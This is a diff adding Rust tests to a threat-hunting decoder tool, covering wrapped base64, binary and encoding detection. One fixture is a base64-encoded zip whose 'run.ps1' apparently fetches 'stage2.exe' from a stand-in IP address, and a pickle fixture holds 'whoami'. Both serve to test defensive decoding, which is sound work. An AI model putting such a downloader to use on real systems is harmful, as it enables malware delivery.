@@ -586,3 +586,186 @@ fn proctree_issue_12_mde_exports() {
         assert_eq!(serde_json::json!(inferred), case["inferred"], "{schema}");
     }
 }
+
+/// A zip (one deflated `run.ps1`), base64 as Python's `base64.b64encode` wrote it.
+const ZIP_B64: &str = "UEsDBBQAAAAIAAAAZFghUoBkXgAAAGwAAAAHAAAAcnVuLnBzMfPMK8vPTtUNT00KSi0sTS0uUdANLcpUyCgpKbDS1zcyMNYz0DM0NNYz1y8uSUxPNdJLrUhV0PUvLXHLzElVUEnNK7MKcfUNiCkGSVgrBJckFpXoBhTlJ6cWF6NLAwBQSwECFAMUAAAACAAAAGRYIVKAZF4AAABsAAAABwAAAAAAAAAAAAAAgAEAAAAAcnVuLnBzMVBLBQYAAAAAAQABADUAAACDAAAAAAA=";
+
+fn ndjson_rows(o: &Output) -> Vec<serde_json::Value> {
+    stdout(o)
+        .split('\n')
+        .filter(|l| !l.is_empty())
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// Issue #11 (bug 5): base64 wrapped at 76 characters (MIME, CRLF) is one
+/// payload: the zip unpacks, no fragment per line.
+#[test]
+fn issue_11_decode_wrapped_base64_zip() {
+    let lines: Vec<&str> = ZIP_B64
+        .as_bytes()
+        .chunks(76)
+        .map(|c| std::str::from_utf8(c).unwrap())
+        .collect();
+    let mail = format!(
+        "Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\r\n--boundary--\r\n",
+        lines.join("\r\n")
+    );
+    let f = temp("wrapped.eml", mail.as_bytes());
+    let o = huntkit(&["decode", f.to_str().unwrap(), "--format", "ndjson"], None);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(!stderr(&o).contains("cannot unpack"), "{}", stderr(&o));
+    let rows = ndjson_rows(&o);
+    assert_eq!(rows.len(), 2, "{}", stdout(&o));
+    assert_eq!(rows[0]["file_type"], "zip");
+    assert_eq!(rows[0]["original_string"], lines.join("\r\n"));
+    assert_eq!(rows[1]["file_name"], "run.ps1");
+    assert!(rows[1]["decoded_string"]
+        .as_str()
+        .unwrap()
+        .contains("http://203.0.113.7/stage2.exe"));
+}
+
+/// Issue #11 (bug 6): base64 of random 48-byte blobs comes back as binary
+/// base64, one row each, never as UTF-16 text or dropped.
+#[test]
+fn issue_11_decode_random_blobs_are_binary() {
+    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+    let mut text = String::new();
+    for _ in 0..40 {
+        let blob: Vec<u8> = (0..48)
+            .map(|_| {
+                x ^= x << 13;
+                x ^= x >> 7;
+                x ^= x << 17;
+                (x >> 32) as u8
+            })
+            .collect();
+        text.push_str(&format!("blob {}\n", encode_b64(&blob)));
+    }
+    let o = huntkit(
+        &["decode", "-", "--format", "ndjson"],
+        Some(text.as_bytes()),
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rows = ndjson_rows(&o);
+    assert_eq!(rows.len(), 40, "{}", stdout(&o));
+    for row in rows {
+        assert_eq!(row["encoding_type"], "base64", "{row}");
+        assert_eq!(row["decoded_string"], "", "{row}");
+        assert_eq!(row["input_bytes"], 48);
+    }
+}
+
+/// Issue #11 (bug 4): a JSON array in a `.ndjson` file names the flag that
+/// reads it, instead of "row 0 is not an object".
+#[test]
+fn issue_11_json_array_in_ndjson_file() {
+    for content in [
+        &b"[{\"cmd\":\"ping 9.9.9.9\"}]\n"[..],
+        b"[\n  {\"cmd\": \"ping 9.9.9.9\"}\n]\n",
+    ] {
+        let f = temp("rows.ndjson", content);
+        let o = huntkit(&["ioc", f.to_str().unwrap()], None);
+        assert_eq!(o.status.code(), Some(1));
+        assert!(
+            stderr(&o).ends_with(
+                "rows.ndjson is a JSON array, not one JSON object per line: use --input-format json\n"
+            ),
+            "{}",
+            stderr(&o)
+        );
+        let o = huntkit(
+            &["ioc", f.to_str().unwrap(), "--input-format", "json"],
+            None,
+        );
+        assert!(o.status.success(), "{}", stderr(&o));
+        assert!(stdout(&o).contains("9.9.9.9"));
+    }
+}
+
+/// Issue #11 (bug 4): a binary file read as a table says what it looks
+/// like and echoes none of its bytes.
+#[test]
+fn issue_11_binary_input_is_described_not_echoed() {
+    let pickle =
+        b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00}\x94(\x8c\x03cmd\x94\x8c\x06whoami\x94u.";
+    let mut exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8".to_vec();
+    exe.extend((0..=255u8).rev());
+    let pkl = temp("frame.pkl", pickle);
+    let exe = temp("tool.exe", &exe);
+    for (args, what) in [
+        (
+            vec!["ioc", pkl.to_str().unwrap(), "--columns", "cmd"],
+            "looks like a Python pickle, not csv text; save the DataFrame with to_csv or to_feather",
+        ),
+        (
+            vec!["proctree", pkl.to_str().unwrap(), "--input-format", "csv"],
+            "looks like a Python pickle",
+        ),
+        (
+            vec!["decode", exe.to_str().unwrap(), "--input-format", "json"],
+            "looks like a Windows executable (MZ), not json text",
+        ),
+    ] {
+        let o = huntkit(&args, None);
+        assert_eq!(o.status.code(), Some(1), "{args:?}");
+        let err = stderr(&o);
+        assert!(err.contains(what), "{err}");
+        assert!(
+            err.trim_end()
+                .chars()
+                .all(|c| !c.is_control() && c != '\u{fffd}'),
+            "{err:?}"
+        );
+    }
+    // As text, a binary file is scanned with a warning, not refused.
+    let o = huntkit(&["ioc", exe.to_str().unwrap()], None);
+    assert!(o.status.success());
+    assert!(stderr(&o).contains("tool.exe looks like a Windows executable (MZ), not text"));
+}
+
+/// Issue #11 (bug 4): Windows-1252 input read as UTF-8 warns once with the
+/// count of replaced bytes; `--encoding cp1252` reads it right.
+#[test]
+fn issue_11_windows_1252_input() {
+    // "café – naïve “quoted” 9.9.9.9" in Windows-1252: 5 bytes that are not UTF-8.
+    let line: &[u8] = b"caf\xe9 \x96 na\xefve \x93quoted\x94 9.9.9.9\n";
+    let text = line.repeat(3);
+    let warning = "15 bytes were not valid UTF-8 and were replaced; if this is Windows-1252 use --encoding cp1252";
+    for args in [
+        &["ioc", "-"][..],
+        &["ioc", "-", "--per-line"],
+        &["decode", "-", "--annotated"],
+    ] {
+        let o = huntkit(args, Some(&text));
+        assert!(o.status.success(), "{}", stderr(&o));
+        assert_eq!(stderr(&o).matches(warning).count(), 1, "{}", stderr(&o));
+        assert!(stdout(&o).contains("9.9.9.9") || args[0] == "decode");
+    }
+    let o = huntkit(
+        &["decode", "-", "--annotated", "--encoding", "cp1252"],
+        Some(&text),
+    );
+    assert!(o.status.success());
+    assert_eq!(stderr(&o), "");
+    assert_eq!(stdout(&o), "café – naïve “quoted” 9.9.9.9\n".repeat(3));
+    let csv = [&b"host,cmd\n"[..], b"h1,", line].concat();
+    let f = temp("ansi.csv", &csv);
+    let o = huntkit(&["ioc", f.to_str().unwrap(), "--format", "csv"], None);
+    assert!(o.status.success());
+    assert!(
+        stderr(&o).contains("ansi.csv: 5 bytes were not valid UTF-8"),
+        "{}",
+        stderr(&o)
+    );
+    let o = huntkit(&["ioc", f.to_str().unwrap(), "--encoding", "cp1252"], None);
+    assert!(o.status.success());
+    assert_eq!(stderr(&o), "");
+    // Streamed UTF-8 whose characters straddle read chunks is not warned about.
+    let utf8 = format!("a{}", "é".repeat(600_000));
+    let f = temp("straddle.txt", utf8.as_bytes());
+    let o = huntkit(&["ioc", f.to_str().unwrap()], None);
+    assert!(o.status.success());
+    assert_eq!(stderr(&o), "");
+}
